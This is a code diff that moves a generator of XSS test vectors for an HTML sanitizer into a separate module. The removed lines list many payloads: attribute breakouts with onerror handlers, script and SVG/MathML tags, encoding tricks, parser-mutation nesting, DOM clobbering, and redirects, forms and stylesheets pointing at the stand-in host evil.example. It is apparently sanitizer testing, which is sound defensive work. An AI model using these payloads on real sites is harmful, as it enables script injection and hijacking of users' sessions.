@@ -1,5 +1,15 @@
 import { existsSync, readFileSync } from "node:fs";
 import path from "node:path";
+import {
+  breakouts,
+  elements,
+  FOREIGN_HOST,
+  mutations,
+  odd,
+  type Run,
+  SENTINEL,
+  unfinished,
+} from "./hostile-elements.ts";
 
 /** HTML that tries to run a script, to leave the page or to reach another site. */
 export type HostileVector = {
@@ -7,10 +17,6 @@ export type HostileVector = {
   /** It changes how what follows it is read: it is to be looked at by itself as well. */
   isRisky: boolean;
 };
-
-/** The name that a script of a vector gives itself away by, and a site that nothing may reach. */
-export const SENTINEL = "hostileRan";
-export const FOREIGN_HOST = "evil.example";
 
 const RUNS = [
   ...[
@@ -47,8 +53,6 @@ export function hostileVectors(): HostileVector[] {
     ...collected().map((html) => ({ html, isRisky: false })),
   ];
 }
-
-type Run = () => string;
 
 /** Elements of which some load by themselves, some are ours, some are unknown. */
 const TAGS = [
@@ -222,201 +226,6 @@ function styles(): string[] {
     `<link rel=stylesheet href=//${FOREIGN_HOST}/e.css>`,
     `<svg><style>@import"//${FOREIGN_HOST}/f"</style></svg>`,
   ];
-}
-
-/** Out of the values that are allowed. */
-function breakouts(run: Run): string[] {
-  const picture = "/pictures/0123456789abcdef0123456789abcdef-640.jpg";
-  const places = [
-    (value: string) => `<img src="${picture}" alt="${value}">`,
-    (value: string) =>
-      `<img src='${picture}' alt='${value}' srcset='${picture} 640w, ${value}' sizes='${value}'>`,
-    (value: string) => `<img src=${picture} alt=${value} width=${value}>`,
-    (value: string) => `<a href="https://a.example/${value}">x</a>`,
-    (value: string) => `<a href='/events?${value}' rel='${value}'>x</a>`,
-    (value: string) => `<a href="mailto:${value}">x</a>`,
-    (value: string) => `<ol start="1${value}"><li>x</ol>`,
-    (value: string) => `<td colspan="2${value}">x</td>`,
-    (value: string) => `<mark style="background-color:#fff3a3${value}">x</mark>`,
-    (value: string) => `<p style="text-align:left${value}">x</p>`,
-    (value: string) =>
-      `<figure><img src="${picture}${value}"><figcaption title="${value}">${value}</figcaption></figure>`,
-  ];
-  const values = [
-    ...[
-      '" onerror=alert(1) x="',
-      "' onerror=alert(1) x='",
-      "` onerror=alert(1) x=`",
-      "&quot; onerror=alert(1) x=&quot;",
-    ],
-    ...[
-      "><img src=x onerror=alert(1)>",
-      '"><script>alert(1)</script>',
-      "'><svg onload=alert(1)>",
-      "&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
-    ],
-    ...[
-      '\u0000" onload=alert(1) ',
-      '\\" onerror=alert(1) //',
-      "</p><script>alert(1)</script>",
-      "]]><script>alert(1)</script>",
-    ],
-  ];
-  return places.flatMap((place) => values.map((value) => place(value.replace("alert(1)", run()))));
-}
-
-/** Whole elements that run, load, lead away or shadow names that scripts rely on. */
-function elements(run: Run): string[] {
-  return [
-    ...[
-      "script",
-      "SCRIPT",
-      "script/x",
-      "script type=module",
-      "scr\u0000ipt",
-      "svg:script",
-      "script src=data:,alert(1)",
-    ].map((tag) => `<${tag}>${run()}</${tag.split(/[ /]/)[0]}>`),
-    `<script src=//${FOREIGN_HOST}/x.js></script>`,
-    `<svg><script>${run()}</script></svg>`,
-    `<svg><script href="data:,${run()}"/></svg>`,
-    `<svg><animate onbegin=${run()} attributeName=x dur=1s></svg>`,
-    `<svg><a><animate attributeName=href values=javascript:${run()} /><text x=20 y=20>x</text></a></svg>`,
-    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1) /></svg>#x" /></svg>`,
-    `<svg><set attributeName=onmouseover to=${run()}><foreignObject><iframe srcdoc="<script>${run()}</script>"></iframe></foreignObject></svg>`,
-    `<math><maction actiontype=statusline xlink:href=javascript:${run()}>x</maction></math>`,
-    `<iframe srcdoc="&lt;script&gt;parent.${SENTINEL}=1&lt;/script&gt;"></iframe>`,
-    `<iframe src="/admin/blog" onload=${run()}></iframe>`,
-    `<object data="data:text/html,<script>${run().replaceAll('"', "'")}</script>"></object>`,
-    `<embed src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="top.${SENTINEL}=1"/>`).toString("base64")}">`,
-    `<meta http-equiv=refresh content="0;url=//${FOREIGN_HOST}/">`,
-    `<base href=//${FOREIGN_HOST}/><img src=x><script src=a.js></script>`,
-    `<form action=//${FOREIGN_HOST}/><input name=a value=b autofocus onfocus=this.form.submit()></form>`,
-    `<form id=x></form><button form=x formaction=javascript:${run()}>x</button>`,
-    `<video autoplay><source src=x onerror=${run()}></video>`,
-    `<audio src=x onerror=${run()} autoplay></audio>`,
-    `<picture><source srcset=//${FOREIGN_HOST}/a.png><img src=x onerror=${run()}></picture>`,
-    `<template shadowrootmode=open><script>${run()}</script><img src=x onerror=${run()}></template>`,
-    `<dialog open onclose=${run()}><form method=dialog><button autofocus>x</button></form></dialog>`,
-    `<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=${run()}>y</xss>`,
-    `<link rel=prefetch href=//${FOREIGN_HOST}/p><link rel=dns-prefetch href=//${FOREIGN_HOST}>`,
-    `<applet code=x archive=//${FOREIGN_HOST}/x.jar></applet><param name=url value=javascript:${run()}>`,
-    `<isindex action=javascript:${run()} type=submit value=x><keygen autofocus onfocus=${run()}>`,
-    `<frameset onload=${run()}><frame src=javascript:${run()}></frameset>`,
-    ...["attributes", "children", "innerHTML", "nodeName", "parentNode", "__proto__", "constructor"].map(
-      (name) =>
-        `<form onclick=${run()}><input name=${name}><input id=${name} name=removeAttribute></form><a id=${name} name=${name}>x</a>`,
-    ),
-    ...[
-      "getElementById",
-      "querySelector",
-      "cookie",
-      "body",
-      "head",
-      "__reactRouterContext",
-      "webpackChunk",
-    ].map((name) => `<img name=${name}><form name=${name} id=${name}></form><iframe name=${name}></iframe>`),
-  ];
-}
-
-/** Letters, encodings and depths that a reader may take for others. */
-function odd(run: Run): string[] {
-  return [
-    ...["\u00a0", "\u2028", "\ufeff", "\u0000", "\u001b(J", "\u202e", "\ud800", "%00", "+ADw-"].map(
-      (sign) => `<${sign}img src=x onerror=${run()}><img${sign}src=x${sign}onerror=${run()}>`,
-    ),
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
-    "{{constructor.constructor('alert(1)')()}}$\u007balert(1)}<%= alert(1) %>#{alert(1)}",
-    "</script><script>alert(1)</script>",
-    "';alert(1)//\";alert(1)//\\';alert(1)//--></script>",
-    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
-    ...[30, 60, 200].map((depth) => `${"<blockquote>".repeat(depth)}<img src=x onerror=${run()}>`),
-    ...[50, 300].map((depth) => `${"<svg><g>".repeat(depth)}<script>${run()}</script>`),
-    ...[50, 300].map(
-      (depth) => `${"<b><i>".repeat(depth)}<style><!--</style><img src=x onerror=${run()}>-->`,
-    ),
-  ];
-}
-
-/** What a second reading understands otherwise than the first. */
-function mutations(run: Run): string[] {
-  const outer = [
-    "svg",
-    "math",
-    "table",
-    "select",
-    "template",
-    "noscript",
-    "form",
-    "p",
-    "math><mtext",
-    "svg><foreignObject",
-    "math><annotation-xml encoding=text/html",
-  ];
-  const raw = [
-    "style",
-    "title",
-    "textarea",
-    "xmp",
-    "noembed",
-    "noframes",
-    "iframe",
-    "noscript",
-    "plaintext",
-    "script",
-    "mglyph",
-    "desc",
-  ];
-  return outer.flatMap((around) =>
-    raw.flatMap((inner) => [
-      `<${around}><${inner}><!--</${inner}><img src=x onerror=${run()}>--></${inner}>`,
-      `<${around}><${inner}><a title="</${inner}><img src=x onerror=${run()}>">x</a>`,
-      `<${around}><mi><table><${inner}><mglyph><style><![CDATA[</style><img src=x onerror=${run()}>]]>`,
-    ]),
-  );
-}
-
-/** What never ends, or ends twice. */
-function unfinished(run: Run): string[] {
-  const openings = [
-    ...[
-      "<!--",
-      "<!-->",
-      "<!--->",
-      "<![CDATA[",
-      "<?xml ",
-      "<!DOCTYPE x [",
-      "<!x",
-      "</",
-      "<",
-      '<a href="',
-      "<img alt='",
-      '<p style="x',
-    ],
-    ...[
-      "<script>",
-      "<style>",
-      "<textarea>",
-      "<title>",
-      "<xmp>",
-      "<plaintext>",
-      "<noscript>",
-      "<template>",
-      "<iframe>",
-      "<select><option>",
-    ],
-  ];
-  return openings.flatMap((opening) => [
-    `${opening}<img src=x onerror=${run()}>`,
-    `${opening}--><img src=x onerror=${run()}>`,
-    `${opening}"'>]]>?><svg onload=${run()}>`,
-    `x${opening}\n\n<p onclick=${run()}>y`,
-  ]);
 }
 
 function collected(): string[] {
